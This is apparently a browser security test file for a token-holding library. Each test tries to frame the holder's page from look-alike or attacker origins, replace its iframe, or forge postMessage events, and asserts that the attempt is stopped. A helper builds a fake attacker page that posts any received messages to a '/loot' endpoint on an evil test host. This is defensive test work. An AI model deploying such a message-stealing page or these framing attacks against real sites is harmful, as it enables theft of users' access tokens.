// T50 and T54: who may frame the page of the holder's origin, and who may be framed in its place.

import assert from "node:assert/strict";

import { endOfSend, session, startSend, statusOf } from "../browser/support/calls.mjs";
import { until } from "../browser/support/until.mjs";
import { send } from "../../www/server/http.mjs";
import { forgeEvents, frame, knock, knockBeside, leadFrameAway, replaceFrame } from "./scripts/own-frames.mjs";
import { attack } from "./support/attack.mjs";

const border = { id: "T50", threat: "R15", modes: ["own"], outcome: "stopped" };
/** Where silence is what is wanted. */
const quiet = { patience: 2_000 };
const strangers = [
  "evil.test",
  "other.rig.test",
  "rig.test",
  "www.app.rig.test",
  "xapp.rig.test",
  "app.rig.test.evil.test",
  "app-rig.test",
];

attack(
  { ...border, title: "an app that is not listed frames the holder's page: of another site, of this one, look-alikes (OWN-1)" },
  async (rig) => {
    await rig.signedIn();
    const places = [
      ...strangers.map((host) => `${rig.front.originOf(host)}/`),
      `${rig.app.plainOrigin.replace("127.0.0.1", "app.rig.test")}/bare.html`,
    ];
    const answers = {};
    for (const place of places) {
      const page = await rig.context.newPage();
      await page.goto(place);
      answers[place] = await rig.inject(page, knock, { patience: 20_000 });
      await page.close();
    }
    const lent = Object.values(answers).filter((answer) => answer === "lent").length;
    if (lent > 0) return ["works", `lent to ${lent} origins`];
    assert.deepEqual(answers, Object.fromEntries(places.map((place) => [place, "TOKENKEEP_APP_REFUSED"])));
    return ["stopped", `${places.length} origins`];
  },
);

attack(
  { ...border, title: "the app inside of a page of the attacker's, that inside of the app, the app inside of itself (OWN-1, WIN-12)" },
  async (rig) => {
    await rig.signedIn();
    const [app, evil] = [`${rig.origins.app}/bare.html`, `${rig.origins.evil}/`];
    for (const [outer, inner] of [
      [evil, app],
      [app, evil],
      [app, app],
    ]) {
      const page = await rig.context.newPage();
      await page.goto(outer);
      await rig.inject(page, frame, { url: inner });
      assert.equal(await rig.inject(page.frames()[1], knock, quiet), "silent", `${inner} in ${outer}`);
      await page.close();
    }
    return "stopped";
  },
);

attack({ ...border, title: "a document without an origin: a sandbox, a data: URL, a header (OWN-1)" }, async (rig) => {
  const page = await rig.signedIn();
  const sandboxed = { url: `${rig.origins.app}/bare.html`, sandbox: "allow-scripts" };
  for (const given of [sandboxed, { url: "data:text/html,<title>data</title>" }]) {
    const before = page.frames().length;
    await rig.inject(page, frame, given);
    const inner = page.frames()[before];
    assert.equal(await inner.evaluate(() => origin), "null");
    assert.equal(await rig.inject(inner, knock, quiet), "silent", given.url);
  }
  rig.shown.routes = {
    "/sandboxed": (_, response) =>
      send(response, 200, "<!doctype html>", { "content-type": "text/html", "content-security-policy": "sandbox allow-scripts" }),
  };
  assert.equal(await rig.inject(await rig.open("/sandboxed"), knock, quiet), "silent");
  return "stopped";
});

attack(
  { ...border, title: "a frame of the attacker's beside it in the app, and a window that the app has opened (OWN-1)" },
  async (rig) => {
    const page = await rig.signedIn();
    const { holder } = rig.shown;
    await rig.inject(page, frame, { url: `${rig.origins.evil}/` });
    const beside = page.frames().find((one) => one.url().startsWith(rig.origins.evil));
    assert.equal(await rig.inject(beside, knockBeside, { whose: "parent", holder }), "silent");
    const [opened] = await Promise.all([rig.context.waitForEvent("page"), page.evaluate((url) => void open(url), `${rig.origins.evil}/`)]);
    await opened.waitForLoadState();
    assert.equal(await rig.inject(opened, knockBeside, { whose: "opener", holder }), "silent");
    return "stopped";
  },
);

for (const how of ["another src", "a navigation", "another src, once it has loaded"]) {
  attack({ ...border, title: `a page of the attacker's in the place of the frame, by ${how} (OWN-1)`, when: ["early"] }, async (rig) => {
    await rig.signedIn();
    const url = fakePage(rig);
    await rig.plant(replaceFrame, { how, url });
    const page = await rig.open();
    await page.evaluate(() => void app.outcome(() => app.auth.resume()));
    const isGone = async () =>
      rig.evil.requests.some(({ url: asked }) => asked === "/fake.html") && (await page.locator("iframe").count()) === 0;
    await until(async () => rig.evil.loot().length || isGone(), "the control, or the end of the frame");
    assert.deepEqual(
      rig.evil.loot().filter((one) => one !== 'greeted: "control"0'),
      [],
      "it was greeted",
    );
    return rig.verdict("access token", "code");
  });
}

attack({ ...border, title: "the frame led to a page of the attacker's later (OWN-1)", when: ["late"] }, async (rig) => {
  const page = await rig.signedIn();
  await rig.inject(page, leadFrameAway, { url: fakePage(rig) });
  await startSend(page, rig.v1("work?ms=60000"));
  assert.equal((await endOfSend(page)).error?.code, "TOKENKEEP_FRAME_LOST");
  assert.ok(rig.evil.requests.some(({ url }) => url === "/fake.html"));
  assert.equal(await statusOf(page, rig.v1("files")), 200);
  assert.deepEqual(rig.evil.loot(), [], "it was greeted");
  return ["stopped", "another frame is made"];
});

attack({ ...border, id: "T14", threat: "S15", title: "take the holder's frame out of the page", outcome: "limited" }, async (rig) => {
  const page = await rig.signedIn();
  await startSend(page, rig.v1("work?ms=60000"));
  await rig.inject(page, () => document.querySelector("iframe").remove());
  assert.equal((await endOfSend(page)).error?.code, "TOKENKEEP_FRAME_LOST");
  assert.equal(await statusOf(page, rig.v1("files")), 200);
  return ["limited", "calls under way fail, and another frame is made: denial, no leak"];
});

attack(
  { ...border, title: "message events with a source and an origin of the script's own choosing (OWN-1)", when: ["late"] },
  async (rig) => {
    const page = await rig.signedIn();
    const before = await session(page);
    const session2 = { scope: "admin", expiresAt: null, claims: null };
    const words = [
      { tokenkeep: 1 },
      { id: 1, ok: { page: rig.origins.evil } },
      { v: 1, event: { type: "signedout", detail: {}, session: null } },
      { v: 1, id: 1, ok: session2 },
      { v: 1, event: { type: "signedin", detail: {}, session: session2 } },
    ];
    await rig.inject(page, forgeEvents, { holder: rig.shown.holder, words });
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    assert.deepEqual(await session(page), before);
    await rig.arrived(page);
    assert.deepEqual(rig.evil.loot(), []);
    return "stopped";
  },
);

const foreign = { home: { apps: (front) => [front.originOf("app.rig.test"), front.originOf("app.other.test")] } };

attack(
  {
    id: "T54",
    threat: "R15",
    modes: ["own"],
    title: "a listed app of another site, where storage is kept apart (OWN-6)",
    rig: foreign,
    outcome: "stopped",
  },
  async (rig) => {
    await rig.signedIn();
    rig.front.routes["app.other.test"] = rig.app.plainOrigin;
    const page = await rig.context.newPage();
    await page.goto(`${rig.front.originOf("app.other.test")}/`);
    for (const act of [() => app.auth.resume(), () => app.auth.signIn(), () => app.auth.stats()]) {
      const { error } = await page.evaluate(`app.outcome(${act})`);
      assert.equal(error?.code, "TOKENKEEP_OTHER_SITE");
    }
    return "stopped";
  },
);

/** A page of the attacker's that tells whatever it is told. */
function fakePage(rig) {
  const tell = `fetch("/loot", { method: "POST", body: "greeted: " + JSON.stringify(data) + ports.length })`;
  const page = `<!doctype html><script>addEventListener("message", ({ data, ports }) => { ${tell}; for (const port of ports) port.postMessage({ id: 1, ok: { page: location.href } }); })</script>`;
  rig.evil.routes["/fake.html"] = (_, response) => send(response, 200, page, { "content-type": "text/html" });
  return `${rig.origins.evil}/fake.html`;
}
